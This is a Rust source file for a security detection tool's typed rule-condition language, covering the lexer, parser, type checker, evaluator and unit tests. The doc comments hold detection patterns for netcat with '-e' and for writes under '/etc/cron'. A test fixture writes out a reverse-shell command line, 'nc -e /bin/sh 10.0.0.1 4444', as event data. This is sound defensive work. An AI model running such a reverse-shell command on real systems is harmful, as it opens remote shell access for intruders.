//! The condition language of rules: small, typed, and checked when a rule loads.
//!
//! ```text
//! kind-free comparisons joined by && || ! and parentheses:
//!   comm in ["nc", "ncat"] && argv matches "*-e*"
//!   dst_port == 23 && !(src_ip in ["10.0.0.0/8"])
//!   write && path startswith "/etc/cron"
//!   flags has 0x200
//! ```
//!
//! Why not CEL: every field here has one static type, and a typo, a type mismatch or a field
//! the rule's event kinds never carry is rejected at `heir rules check` time with its column,
//! instead of evaluating to an error on the first matching event in production. Conditions
//! compile to a tree over borrowed event fields, so evaluation allocates nothing: the whole
//! rule set stays inside the per-event budget of a 1 M events/s pipeline. IP literals are parsed
//! once into CIDR networks; globs are the only pattern syntax (no regex backtracking).

use crate::Kind;
use crate::util::{Cidr, glob};

use super::field::{Field, Type, Val};

/// A condition that failed to parse or type-check; `offset` is a byte offset into the source.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ExprError {
    pub offset: usize,
    pub message: String,
}

#[derive(Debug, Clone, PartialEq)]
enum Tok {
    Ident(String),
    Str(String),
    Int(i64),
    LParen,
    RParen,
    LBracket,
    RBracket,
    Comma,
    And,
    Or,
    Not,
    Op(CmpOp),
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum CmpOp {
    Eq,
    Ne,
    Lt,
    Le,
    Gt,
    Ge,
    In,
    NotIn,
    Contains,
    StartsWith,
    EndsWith,
    Matches,
    Has,
}

impl CmpOp {
    fn text(self) -> &'static str {
        match self {
            CmpOp::Eq => "==",
            CmpOp::Ne => "!=",
            CmpOp::Lt => "<",
            CmpOp::Le => "<=",
            CmpOp::Gt => ">",
            CmpOp::Ge => ">=",
            CmpOp::In => "in",
            CmpOp::NotIn => "not in",
            CmpOp::Contains => "contains",
            CmpOp::StartsWith => "startswith",
            CmpOp::EndsWith => "endswith",
            CmpOp::Matches => "matches",
            CmpOp::Has => "has",
        }
    }
}

fn lex(src: &str) -> Result<Vec<(usize, Tok)>, ExprError> {
    let b = src.as_bytes();
    let mut i = 0;
    let mut out = Vec::new();
    let err = |offset, m: &str| ExprError {
        offset,
        message: m.to_owned(),
    };
    while i < b.len() {
        let c = b[i];
        let start = i;
        match c {
            b' ' | b'\t' | b'\n' | b'\r' => {
                i += 1;
                continue;
            }
            b'(' => out.push((start, Tok::LParen)),
            b')' => out.push((start, Tok::RParen)),
            b'[' => out.push((start, Tok::LBracket)),
            b']' => out.push((start, Tok::RBracket)),
            b',' => out.push((start, Tok::Comma)),
            b'&' | b'|' => {
                if b.get(i + 1) != Some(&c) {
                    return Err(err(start, &format!("expected `{0}{0}`", c as char)));
                }
                i += 1;
                out.push((start, if c == b'&' { Tok::And } else { Tok::Or }));
            }
            b'=' => {
                if b.get(i + 1) != Some(&b'=') {
                    return Err(err(start, "expected `==`"));
                }
                i += 1;
                out.push((start, Tok::Op(CmpOp::Eq)));
            }
            b'!' => {
                if b.get(i + 1) == Some(&b'=') {
                    i += 1;
                    out.push((start, Tok::Op(CmpOp::Ne)));
                } else {
                    out.push((start, Tok::Not));
                }
            }
            b'<' | b'>' => {
                let eq = b.get(i + 1) == Some(&b'=');
                if eq {
                    i += 1;
                }
                let op = match (c, eq) {
                    (b'<', false) => CmpOp::Lt,
                    (b'<', true) => CmpOp::Le,
                    (_, false) => CmpOp::Gt,
                    _ => CmpOp::Ge,
                };
                out.push((start, Tok::Op(op)));
            }
            b'"' | b'\'' => {
                let quote = c;
                let mut s = String::new();
                i += 1;
                loop {
                    let Some(&ch) = b.get(i) else {
                        return Err(err(start, "unterminated string"));
                    };
                    if ch == quote {
                        break;
                    }
                    if ch == b'\\' {
                        match b.get(i + 1) {
                            Some(&e @ (b'\\' | b'"' | b'\'')) => s.push(e as char),
                            Some(b'n') => s.push('\n'),
                            Some(b't') => s.push('\t'),
                            _ => {
                                return Err(err(
                                    i,
                                    "unknown escape (use \\\\, \\\", \\', \\n or \\t)",
                                ));
                            }
                        }
                        i += 2;
                        continue;
                    }
                    let ch_str = &src[i..];
                    let chr = ch_str.chars().next().unwrap_or('\u{fffd}');
                    s.push(chr);
                    i += chr.len_utf8();
                }
                out.push((start, Tok::Str(s)));
            }
            b'-' | b'0'..=b'9' => {
                let mut j = i + 1;
                let hex = c == b'0' && matches!(b.get(j), Some(b'x' | b'X'));
                if hex {
                    j += 1;
                }
                while j < b.len() && (b[j].is_ascii_hexdigit() || b[j] == b'_') {
                    if !hex && !b[j].is_ascii_digit() && b[j] != b'_' {
                        break;
                    }
                    j += 1;
                }
                let text: String = src[i..j].chars().filter(|c| *c != '_').collect();
                let v = if hex {
                    i64::from_str_radix(&text[2..], 16)
                } else {
                    text.parse::<i64>()
                }
                .map_err(|_| err(start, &format!("`{text}` is not an integer")))?;
                out.push((start, Tok::Int(v)));
                i = j;
                continue;
            }
            c if c.is_ascii_alphabetic() || c == b'_' => {
                let mut j = i + 1;
                while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                    j += 1;
                }
                let word = &src[i..j];
                let tok = match word {
                    "and" => Tok::And,
                    "or" => Tok::Or,
                    "not" => {
                        // `not in` is one operator; a bare `not` negates.
                        let rest = src[j..].trim_start();
                        if rest.starts_with("in")
                            && !rest[2..].starts_with(|c: char| c.is_alphanumeric() || c == '_')
                        {
                            j = src.len() - rest.len() + 2;
                            Tok::Op(CmpOp::NotIn)
                        } else {
                            Tok::Not
                        }
                    }
                    "in" => Tok::Op(CmpOp::In),
                    "contains" => Tok::Op(CmpOp::Contains),
                    "startswith" => Tok::Op(CmpOp::StartsWith),
                    "endswith" => Tok::Op(CmpOp::EndsWith),
                    "matches" => Tok::Op(CmpOp::Matches),
                    "has" => Tok::Op(CmpOp::Has),
                    _ => Tok::Ident(word.to_owned()),
                };
                out.push((start, tok));
                i = j;
                continue;
            }
            _ => {
                let ch = src[i..].chars().next().unwrap_or('?');
                return Err(err(start, &format!("unexpected character `{ch}`")));
            }
        }
        i += 1;
    }
    Ok(out)
}

/// A compiled condition.
#[derive(Debug, Clone)]
pub enum Expr {
    True,
    False,
    And(Vec<Expr>),
    Or(Vec<Expr>),
    Not(Box<Expr>),
    /// A boolean field on its own.
    Flag(Field),
    Cmp(Field, Cmp),
}

/// A comparison with its right-hand side already converted to the field's type.
#[derive(Debug, Clone)]
pub enum Cmp {
    StrEq(String, bool),
    StrIn(Vec<String>, bool),
    StrContains(String),
    StrStarts(String),
    StrEnds(String),
    StrMatches(String),
    IntCmp(CmpOp, i64),
    IntIn(Vec<i64>, bool),
    /// All bits of the mask are set.
    IntBits(i64),
    BoolEq(bool, bool),
    IpIn(Vec<Cidr>, bool),
    /// Any element of a list equals one of these.
    ListContains(Vec<String>),
    ListMatches(String),
    ListStarts(String),
}

#[derive(Debug, Clone)]
enum Lit {
    Str(String),
    Int(i64),
    Bool(bool),
    List(Vec<(usize, Lit)>),
}

struct Parser<'a> {
    toks: &'a [(usize, Tok)],
    pos: usize,
    end: usize,
    kinds: &'a [Kind],
    fields: Vec<Field>,
}

impl Expr {
    /// Parses and type-checks `src` for events of `kinds`. Also returns every field it reads.
    pub fn compile(src: &str, kinds: &[Kind]) -> Result<(Expr, Vec<Field>), ExprError> {
        let toks = lex(src)?;
        if toks.is_empty() {
            return Err(ExprError {
                offset: 0,
                message: "empty condition".into(),
            });
        }
        let mut p = Parser {
            toks: &toks,
            pos: 0,
            end: src.len(),
            kinds,
            fields: Vec::new(),
        };
        let e = p.or()?;
        if let Some((off, t)) = toks.get(p.pos) {
            return Err(ExprError {
                offset: *off,
                message: format!("unexpected {} after a complete condition", describe(t)),
            });
        }
        Ok((e, p.fields))
    }

    pub fn eval(&self, ev: &heir_model::Event) -> bool {
        match self {
            Expr::True => true,
            Expr::False => false,
            Expr::And(v) => v.iter().all(|e| e.eval(ev)),
            Expr::Or(v) => v.iter().any(|e| e.eval(ev)),
            Expr::Not(e) => !e.eval(ev),
            Expr::Flag(f) => matches!(f.get(ev), Some(Val::Bool(true))),
            Expr::Cmp(f, c) => match f.get(ev) {
                Some(v) => c.eval(v),
                // An absent field satisfies only negative tests.
                None => {
                    matches!(
                        c,
                        Cmp::StrEq(_, false)
                            | Cmp::StrIn(_, false)
                            | Cmp::IntIn(_, false)
                            | Cmp::IpIn(_, false)
                    ) || matches!(c, Cmp::IntCmp(CmpOp::Ne, _))
                        || matches!(c, Cmp::BoolEq(_, false))
                }
            },
        }
    }
}

impl Cmp {
    fn eval(&self, v: Val<'_>) -> bool {
        match (self, v) {
            (Cmp::StrEq(s, eq), Val::Str(x)) => (x == s) == *eq,
            (Cmp::StrIn(l, pos), Val::Str(x)) => l.iter().any(|s| s == x) == *pos,
            (Cmp::StrContains(s), Val::Str(x)) => x.contains(s.as_str()),
            (Cmp::StrStarts(s), Val::Str(x)) => x.starts_with(s.as_str()),
            (Cmp::StrEnds(s), Val::Str(x)) => x.ends_with(s.as_str()),
            (Cmp::StrMatches(p), Val::Str(x)) => glob(p, x),
            (Cmp::IntCmp(op, r), Val::Int(x)) => match op {
                CmpOp::Eq => x == *r,
                CmpOp::Ne => x != *r,
                CmpOp::Lt => x < *r,
                CmpOp::Le => x <= *r,
                CmpOp::Gt => x > *r,
                CmpOp::Ge => x >= *r,
                _ => false,
            },
            (Cmp::IntIn(l, pos), Val::Int(x)) => l.contains(&x) == *pos,
            (Cmp::IntBits(m), Val::Int(x)) => x & m == *m,
            (Cmp::BoolEq(b, eq), Val::Bool(x)) => (x == *b) == *eq,
            (Cmp::IpIn(nets, pos), Val::Ip(ip)) => nets.iter().any(|n| n.contains(ip)) == *pos,
            (Cmp::ListContains(l), v @ (Val::Strs(_) | Val::Lineage(_))) => {
                v.any_str(|x| l.iter().any(|s| s == x))
            }
            (Cmp::ListMatches(p), v @ (Val::Strs(_) | Val::Lineage(_))) => {
                v.any_str(|x| glob(p, x))
            }
            (Cmp::ListStarts(p), v @ (Val::Strs(_) | Val::Lineage(_))) => {
                v.any_str(|x| x.starts_with(p.as_str()))
            }
            _ => false,
        }
    }
}

fn describe(t: &Tok) -> String {
    match t {
        Tok::Ident(s) => format!("`{s}`"),
        Tok::Str(s) => format!("string \"{s}\""),
        Tok::Int(i) => format!("number {i}"),
        Tok::LParen => "`(`".into(),
        Tok::RParen => "`)`".into(),
        Tok::LBracket => "`[`".into(),
        Tok::RBracket => "`]`".into(),
        Tok::Comma => "`,`".into(),
        Tok::And => "`&&`".into(),
        Tok::Or => "`||`".into(),
        Tok::Not => "`!`".into(),
        Tok::Op(o) => format!("`{}`", o.text()),
    }
}

impl Parser<'_> {
    fn peek(&self) -> Option<&Tok> {
        self.toks.get(self.pos).map(|(_, t)| t)
    }

    fn offset(&self) -> usize {
        self.toks.get(self.pos).map_or(self.end, |(o, _)| *o)
    }

    fn err<T>(&self, offset: usize, message: impl Into<String>) -> Result<T, ExprError> {
        Err(ExprError {
            offset,
            message: message.into(),
        })
    }

    fn or(&mut self) -> Result<Expr, ExprError> {
        let mut v = vec![self.and()?];
        while self.peek() == Some(&Tok::Or) {
            self.pos += 1;
            v.push(self.and()?);
        }
        Ok(if v.len() == 1 {
            v.pop().expect("one")
        } else {
            Expr::Or(v)
        })
    }

    fn and(&mut self) -> Result<Expr, ExprError> {
        let mut v = vec![self.unary()?];
        while self.peek() == Some(&Tok::And) {
            self.pos += 1;
            v.push(self.unary()?);
        }
        Ok(if v.len() == 1 {
            v.pop().expect("one")
        } else {
            Expr::And(v)
        })
    }

    fn unary(&mut self) -> Result<Expr, ExprError> {
        match self.peek() {
            Some(Tok::Not) => {
                self.pos += 1;
                Ok(Expr::Not(Box::new(self.unary()?)))
            }
            Some(Tok::LParen) => {
                let open = self.offset();
                self.pos += 1;
                let e = self.or()?;
                if self.peek() != Some(&Tok::RParen) {
                    return self.err(open, "this `(` is never closed");
                }
                self.pos += 1;
                Ok(e)
            }
            Some(Tok::Ident(_)) => self.comparison(),
            Some(t) => {
                let m = format!("expected a field name, `!` or `(`, found {}", describe(t));
                self.err(self.offset(), m)
            }
            None => self.err(self.end, "condition ends too early"),
        }
    }

    fn comparison(&mut self) -> Result<Expr, ExprError> {
        let off = self.offset();
        let Some(Tok::Ident(name)) = self.peek().cloned() else {
            return self.err(off, "expected a field name");
        };
        self.pos += 1;
        match name.as_str() {
            "true" => return Ok(Expr::True),
            "false" => return Ok(Expr::False),
            _ => {}
        }
        let field = Field::parse(&name).ok_or_else(|| ExprError {
            offset: off,
            message: match suggest(&name) {
                Some(s) => format!("unknown field `{name}` (did you mean `{s}`?)"),
                None => format!("unknown field `{name}`"),
            },
        })?;
        if !self.kinds.iter().any(|k| field.available(*k)) {
            let carried: Vec<&str> = field.kinds().iter().map(|k| k.name()).collect();
            return self.err(
                off,
                format!(
                    "field `{name}` is never present on {} events (only on: {})",
                    self.kinds
                        .iter()
                        .map(|k| k.name())
                        .collect::<Vec<_>>()
                        .join(", "),
                    carried.join(", ")
                ),
            );
        }
        if !self.fields.contains(&field) {
            self.fields.push(field);
        }
        let op = match self.peek() {
            Some(Tok::Op(op)) => *op,
            _ => {
                if field.ty() == Type::Bool {
                    return Ok(Expr::Flag(field));
                }
                return self.err(
                    self.offset(),
                    format!(
                        "`{name}` is a {}: compare it with an operator",
                        field.ty().name()
                    ),
                );
            }
        };
        let op_off = self.offset();
        self.pos += 1;
        let lit_off = self.offset();
        let lit = self.literal()?;
        let cmp = typed(field, op, op_off, lit, lit_off)?;
        Ok(Expr::Cmp(field, cmp))
    }

    fn literal(&mut self) -> Result<Lit, ExprError> {
        let off = self.offset();
        match self.peek().cloned() {
            Some(Tok::Str(s)) => {
                self.pos += 1;
                Ok(Lit::Str(s))
            }
            Some(Tok::Int(i)) => {
                self.pos += 1;
                Ok(Lit::Int(i))
            }
            Some(Tok::Ident(w)) if w == "true" || w == "false" => {
                self.pos += 1;
                Ok(Lit::Bool(w == "true"))
            }
            Some(Tok::LBracket) => {
                self.pos += 1;
                let mut items = Vec::new();
                loop {
                    if self.peek() == Some(&Tok::RBracket) {
                        self.pos += 1;
                        break;
                    }
                    let o = self.offset();
                    let item = self.literal()?;
                    if matches!(item, Lit::List(_)) {
                        return self.err(o, "lists cannot nest");
                    }
                    items.push((o, item));
                    match self.peek() {
                        Some(Tok::Comma) => self.pos += 1,
                        Some(Tok::RBracket) => {}
                        _ => return self.err(self.offset(), "expected `,` or `]` in list"),
                    }
                }
                Ok(Lit::List(items))
            }
            Some(t) => self.err(off, format!("expected a value, found {}", describe(&t))),
            None => self.err(off, "expected a value, the condition ends here"),
        }
    }
}

fn typed(
    field: Field,
    op: CmpOp,
    op_off: usize,
    lit: Lit,
    lit_off: usize,
) -> Result<Cmp, ExprError> {
    let ty = field.ty();
    let bad = |m: String| {
        Err(ExprError {
            offset: lit_off,
            message: m,
        })
    };
    let bad_op = || {
        Err(ExprError {
            offset: op_off,
            message: format!(
                "`{}` does not apply to `{}` ({})",
                op.text(),
                field.name(),
                ty.name()
            ),
        })
    };
    let strs = |items: Vec<(usize, Lit)>| -> Result<Vec<String>, ExprError> {
        items
            .into_iter()
            .map(|(o, l)| match l {
                Lit::Str(s) => Ok(s),
                _ => Err(ExprError {
                    offset: o,
                    message: format!("`{}` holds strings: expected a string", field.name()),
                }),
            })
            .collect()
    };
    match ty {
        Type::Str => match (op, lit) {
            (CmpOp::Eq | CmpOp::Ne, Lit::Str(s)) => Ok(Cmp::StrEq(s, op == CmpOp::Eq)),
            (CmpOp::In | CmpOp::NotIn, Lit::List(l)) => Ok(Cmp::StrIn(strs(l)?, op == CmpOp::In)),
            (CmpOp::Contains, Lit::Str(s)) => Ok(Cmp::StrContains(s)),
            (CmpOp::StartsWith, Lit::Str(s)) => Ok(Cmp::StrStarts(s)),
            (CmpOp::EndsWith, Lit::Str(s)) => Ok(Cmp::StrEnds(s)),
            (CmpOp::Matches, Lit::Str(s)) => Ok(Cmp::StrMatches(s)),
            (CmpOp::Lt | CmpOp::Le | CmpOp::Gt | CmpOp::Ge | CmpOp::Has, _) => bad_op(),
            (CmpOp::In | CmpOp::NotIn, _) => {
                bad(format!("`{}` needs a list of strings", op.text()))
            }
            _ => bad(format!(
                "`{}` is a string: expected a quoted string",
                field.name()
            )),
        },
        Type::Int => match (op, lit) {
            (CmpOp::In | CmpOp::NotIn, Lit::List(l)) => {
                let v = l
                    .into_iter()
                    .map(|(o, l)| match l {
                        Lit::Int(i) => Ok(i),
                        _ => Err(ExprError {
                            offset: o,
                            message: format!("`{}` is an integer: expected a number", field.name()),
                        }),
                    })
                    .collect::<Result<_, _>>()?;
                Ok(Cmp::IntIn(v, op == CmpOp::In))
            }
            (
                CmpOp::Eq | CmpOp::Ne | CmpOp::Lt | CmpOp::Le | CmpOp::Gt | CmpOp::Ge,
                Lit::Int(i),
            ) => Ok(Cmp::IntCmp(op, i)),
            (CmpOp::Has, Lit::Int(i)) => Ok(Cmp::IntBits(i)),
            (CmpOp::Contains | CmpOp::StartsWith | CmpOp::EndsWith | CmpOp::Matches, _) => bad_op(),
            _ => bad(format!(
                "`{}` is an integer: expected a number",
                field.name()
            )),
        },
        Type::Bool => match (op, lit) {
            (CmpOp::Eq | CmpOp::Ne, Lit::Bool(b)) => Ok(Cmp::BoolEq(b, op == CmpOp::Eq)),
            (CmpOp::Eq | CmpOp::Ne, _) => bad(format!(
                "`{}` is a boolean: expected true or false",
                field.name()
            )),
            _ => bad_op(),
        },
        Type::Ip => {
            let nets = |items: Vec<(usize, Lit)>| -> Result<Vec<Cidr>, ExprError> {
                items
                    .into_iter()
                    .map(|(o, l)| match l {
                        Lit::Str(s) => s.parse::<Cidr>().map_err(|m| ExprError {
                            offset: o,
                            message: m,
                        }),
                        _ => Err(ExprError {
                            offset: o,
                            message: "expected an address or network in quotes".into(),
                        }),
                    })
                    .collect()
            };
            match (op, lit) {
                (CmpOp::Eq | CmpOp::Ne, Lit::Str(s)) => {
                    let n = nets(vec![(lit_off, Lit::Str(s))])?;
                    Ok(Cmp::IpIn(n, op == CmpOp::Eq))
                }
                (CmpOp::In | CmpOp::NotIn, Lit::List(l)) => {
                    Ok(Cmp::IpIn(nets(l)?, op == CmpOp::In))
                }
                (CmpOp::Eq | CmpOp::Ne | CmpOp::In | CmpOp::NotIn, _) => bad(format!(
                    "`{}` is an ip address: expected \"10.0.0.1\" or a list of networks",
                    field.name()
                )),
                _ => bad_op(),
            }
        }
        Type::Strs => match (op, lit) {
            (CmpOp::Contains, Lit::Str(s)) => Ok(Cmp::ListContains(vec![s])),
            (CmpOp::Contains, Lit::List(l)) => Ok(Cmp::ListContains(strs(l)?)),
            (CmpOp::Matches, Lit::Str(s)) => Ok(Cmp::ListMatches(s)),
            (CmpOp::StartsWith, Lit::Str(s)) => Ok(Cmp::ListStarts(s)),
            (CmpOp::Contains | CmpOp::Matches | CmpOp::StartsWith, _) => bad(format!(
                "`{}` is a list of strings: expected a quoted string",
                field.name()
            )),
            _ => bad_op(),
        },
    }
}

/// The closest known field name, for "did you mean".
fn suggest(name: &str) -> Option<&'static str> {
    Field::ALL
        .iter()
        .map(|f| (distance(name, f.name()), f.name()))
        .filter(|(d, _)| *d <= 2)
        .min_by_key(|(d, _)| *d)
        .map(|(_, n)| n)
}

fn distance(a: &str, b: &str) -> usize {
    let b: Vec<char> = b.chars().collect();
    let mut prev: Vec<usize> = (0..=b.len()).collect();
    for (i, ca) in a.chars().enumerate() {
        let mut cur = vec![i + 1; b.len() + 1];
        for (j, cb) in b.iter().enumerate() {
            cur[j + 1] = (prev[j] + usize::from(ca != *cb))
                .min(prev[j + 1] + 1)
                .min(cur[j] + 1);
        }
        prev = cur;
    }
    prev[b.len()]
}

#[cfg(test)]
mod tests {
    use super::*;
    use heir_model::{Event, EventKind, NetAddr, Process, Timestamp};

    fn exec(comm: &str, argv: &[&str]) -> Event {
        Event {
            ts: Timestamp::from_secs(1),
            process: Process {
                pid: 10,
                comm: comm.into(),
                ..Default::default()
            },
            kind: EventKind::Exec {
                filename: format!("/usr/bin/{comm}"),
                argv: argv.iter().map(|s| s.to_string()).collect(),
                argv_truncated: false,
                ret: 0,
            },
        }
    }

    fn c(src: &str, kinds: &[Kind]) -> Expr {
        Expr::compile(src, kinds).unwrap().0
    }

    #[test]
    fn evaluates_typed_conditions() {
        let e = exec("nc", &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]);
        assert!(
            c(
                r#"comm in ["nc", "ncat"] && argv contains "-e""#,
                &[Kind::Exec]
            )
            .eval(&e)
        );
        assert!(c(r#"argv matches "/bin/*sh""#, &[Kind::Exec]).eval(&e));
        assert!(!c(r#"comm == "bash" || uid != 0"#, &[Kind::Exec]).eval(&e));
        assert!(
            c(
                r#"not (comm == "bash") and pid >= 10 and pid not in [1, 2]"#,
                &[Kind::Exec]
            )
            .eval(&e)
        );
        let conn = Event {
            kind: EventKind::Connect {
                addr: NetAddr::Inet {
                    ip: "10.1.2.3".parse().unwrap(),
                    port: 3333,
                },
                ret: 0,
            },
            ..e
        };
        let ip = c(
            r#"ip in ["10.0.0.0/8"] && port == 3333 && ret == 0"#,
            &[Kind::Connect],
        );
        assert!(ip.eval(&conn));
        assert!(!c(r#"ip == "10.1.2.4""#, &[Kind::Connect]).eval(&conn));
        // A field this event lacks satisfies only negative tests.
        assert!(!c(r#"filename == "x""#, &[Kind::Exec, Kind::Connect]).eval(&conn));
        assert!(c(r#"filename != "x""#, &[Kind::Exec, Kind::Connect]).eval(&conn));
    }

    #[test]
    fn rejects_with_the_offending_offset() {
        let k = &[Kind::Exec];
        let e = Expr::compile(r#"comm == "nc" && prot == 4"#, k).unwrap_err();
        assert_eq!(e.offset, 16);
        assert!(e.message.contains("unknown field `prot`"), "{}", e.message);
        let e = Expr::compile(r#"comm == 4"#, k).unwrap_err();
        assert_eq!(e.offset, 8);
        assert!(e.message.contains("string"), "{}", e.message);
        let e = Expr::compile(r#"dst_port == 4"#, k).unwrap_err();
        assert!(e.message.contains("never present on exec"), "{}", e.message);
        let e = Expr::compile(r#"pid contains 4"#, k).unwrap_err();
        assert_eq!(e.offset, 4);
        let e = Expr::compile(r#"(comm == "a""#, k).unwrap_err();
        assert_eq!(e.offset, 0);
        let e = Expr::compile(r#"comm == "a" comm"#, k).unwrap_err();
        assert_eq!(e.offset, 12);
        let e = Expr::compile(r#"ip == "300.1.1.1""#, &[Kind::Connect]).unwrap_err();
        assert_eq!(e.offset, 6);
        let e = Expr::compile(r#"comm = "x""#, k).unwrap_err();
        assert_eq!(e.offset, 5);
        assert!(Expr::compile("", k).is_err());
        assert!(Expr::compile(r#"comm == "unterminated"#, k).is_err());
    }
}
